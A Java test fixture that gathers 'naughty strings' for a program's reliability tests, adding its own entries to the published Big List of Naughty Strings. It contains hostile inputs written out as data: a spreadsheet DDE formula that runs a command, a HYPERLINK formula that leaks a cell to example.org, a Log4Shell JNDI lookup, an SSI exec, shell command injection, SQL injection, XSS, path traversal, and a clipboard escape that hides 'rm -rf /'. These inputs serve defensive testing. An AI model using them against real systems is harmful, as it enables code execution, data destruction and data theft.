package org.recourse.reliability;

import com.fasterxml.jackson.core.JsonFactory;
import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.core.JsonToken;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** Texts that have broken programs: Max Woolf's big list of naughty strings, and what is naughty for this program. */
final class NaughtyStrings {
    private static final String LIST = "naughty/blns.json";

    private static final List<String> OURS = List.of(
            // terminals: colours, titles, links, the clipboard, C1 forms, device control, a bell, overwriting
            "\u001b[31mred\u001b[0m",
            "\u001b[2J\u001b[H",
            "\u001b]0;title\u0007",
            "\u001b]8;;https://example.org\u001b\\link\u001b]8;;\u001b\\",
            "\u001b]52;c;cm0gLXJmIC8=\u0007",
            "\u009b31mred",
            "\u009d52;c;AAAA\u009c",
            "\u001bP1$r0m\u001b\\",
            "\u0090+q544e\u009c",
            "paid\rrefused",
            "a\bb\u007fc",
            // reordering, invisible and combining characters
            "\u202egnp.exe",
            "\u2066\u2067\u2068\u2069\u061c\u200e\u200f",
            "zero\u200bwidth\u2060joiner\ufeff",
            "\ufeffstarts with a mark",
            "e" + "\u0301".repeat(2000),
            "\u0e4e".repeat(500),
            "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66",
            "\ud834\udd1e \udb40\udc41",
            "line\u2028separator\u2029and\u0085next",
            "\r\n\r\nSet-Cookie: a=b",
            "tab\tand\nline\rend",
            "x".repeat(100_000),
            "\u5317".repeat(30_000),
            // spreadsheets
            "=1+1",
            "=cmd|' /C calc'!A0",
            "+1-800",
            "-2+3",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "  =1+1",
            "\u200b=1+1",
            "\ufeff=1+1",
            "\u00a0\u3000=1+1",
            "\uff1d1+1",
            "\uff0b1",
            "\uff0d1",
            "\uff20SUM(A1)",
            "'=1+1",
            "\"=1+1",
            "=HYPERLINK(\"https://example.org?\"&A1)",
            "a,b;c|d\"\"e\"",
            // documents
            "\"}],\"ok\":true,\"x\":[{\"",
            "\\u0000 \\\" \\",
            "{\"schemaVersion\":1}",
            "<script>alert(1)</script>",
            "\" onmouseover=\"alert(1)",
            "<!--#exec cmd=\"id\"-->",
            "${jndi:ldap://example.org/a}",
            "{} {} {}",
            "%s %n %1$s %99999999d",
            "'; DROP TABLE events; --",
            // paths and devices
            "../../../../etc/passwd",
            "..\\..\\boot.ini",
            "C:\\con\\aux",
            "CON",
            "nul.txt",
            "COM1",
            "~root",
            "-rf",
            "--out=x",
            "@argfile",
            ".",
            "..",
            "trailing dot.",
            "a:b",
            "`id` $(id) ; id | id & id",
            // what a text must not be at all
            "lone \ud800 surrogate",
            "\udc00",
            "nul\u0000byte");

    private NaughtyStrings() {}

    static List<String> all() {
        return Stream.concat(OURS.stream(), published().stream())
                .filter(text -> !text.isEmpty())
                .distinct()
                .toList();
    }

    private static List<String> published() {
        List<String> texts = new ArrayList<>();
        try (InputStream list = NaughtyStrings.class.getResourceAsStream(LIST);
                JsonParser parser = new JsonFactory().createParser(list)) {
            for (JsonToken token = parser.nextToken(); token != null; token = parser.nextToken()) {
                if (token == JsonToken.VALUE_STRING) {
                    texts.add(parser.getText());
                }
            }
            return texts;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
